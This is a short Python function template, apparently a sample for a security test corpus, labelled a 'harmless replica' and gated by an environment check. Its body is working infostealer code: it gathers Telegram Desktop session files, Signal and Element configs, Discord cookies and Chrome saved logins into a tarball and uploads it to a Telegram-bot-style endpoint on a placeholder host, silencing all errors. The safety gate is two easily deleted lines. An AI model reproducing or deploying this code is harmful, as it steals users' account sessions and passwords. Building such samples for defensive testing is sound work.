# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import http.client
    import io
    import tarfile
    root = os.path.expanduser('~/.local/share/TelegramDesktop/tdata')
    memory = io.BytesIO()
    try:
        with tarfile.open(fileobj=memory, mode='w:gz') as archive:
            for name in ('key_datas', 'D877F783D5D3EF8C', 'D877F783D5D3EF8Cs', 'settingss'):
                try:
                    archive.add(os.path.join(root, name), name)
                except OSError:
                    continue
            for name in ('.config/Signal/config.json', '.config/Element/config.json', '.config/discord/Cookies', '.config/google-chrome/Default/Login Data'):
                try:
                    archive.add(os.path.join(os.path.expanduser('~'), name), name)
                except OSError:
                    continue
        mark = b'{{token}}'
        body = b'--' + mark + b'\r\nContent-Disposition: form-data; name="document"; filename="t.tgz"\r\n\r\n' + memory.getvalue() + b'\r\n--' + mark + b'--\r\n'
        link = http.client.HTTPConnection('{{host}}', {{port}}, timeout=1)
        link.request('POST', '/bot{{token}}/sendDocument', body, {'Content-Type': 'multipart/form-data; boundary={{token}}'})
        link.close()
    except Exception:
        pass
